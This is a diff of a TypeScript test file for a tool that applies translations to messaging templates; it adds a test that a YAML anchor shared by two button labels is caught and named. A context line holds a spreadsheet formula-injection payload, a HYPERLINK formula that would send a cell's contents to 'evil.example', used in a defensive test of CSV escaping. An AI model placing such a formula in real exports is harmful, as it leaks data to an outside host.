@@ -153,6 +153,19 @@ test('a source cell autocorrected (I\'ll -> I’ll) is the template\'s text: the
   } finally { cleanup(dir); }
 });
 
+test('an edit that cannot hold its texts because two places share one through a YAML anchor: the refusal names the anchor', async () => {
+  const { checkApplied } = await import('../src/translations/apply.ts');
+  // what the edit gave: both labels one aliased text, where the translator gave two
+  const after = 'channel: wa\nname: t\nlanguage: de\nbuttons:\n  - { type: QUICK_REPLY, text: &more Zeig mal }\n  - { type: QUICK_REPLY, text: *more }\n';
+  const before = { channel: 'wa', name: 't', language: 'de', buttons: [{ type: 'QUICK_REPLY', text: 'Show me' }, { type: 'QUICK_REPLY', text: 'Show me' }] };
+  const why = checkApplied(after, before, [{ path: ['buttons', 0, 'text'], text: 'Zeig mal' }, { path: ['buttons', 1, 'text'], text: 'Mehr davon' }], 'en_US', {});
+  assert.match(why ?? '', 'buttons.1.text differs');
+  assert.match(why ?? '', 'a YAML anchor &name and its alias *name');
+  // without an alias, no such words
+  const plain = checkApplied(after.replace('&more ', '').replace('*more', 'Zeig mal'), before, [{ path: ['buttons', 1, 'text'], text: 'Mehr davon' }], 'en_US', {});
+  assert.not.match(plain ?? '', 'anchor');
+});
+
 test('a text a spreadsheet would run as a formula goes to the CSV behind an apostrophe, and comes back without it', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Help")';
   const en = EN.replace(`footer: ${FOOTER}`, `footer: '${formula}'`);
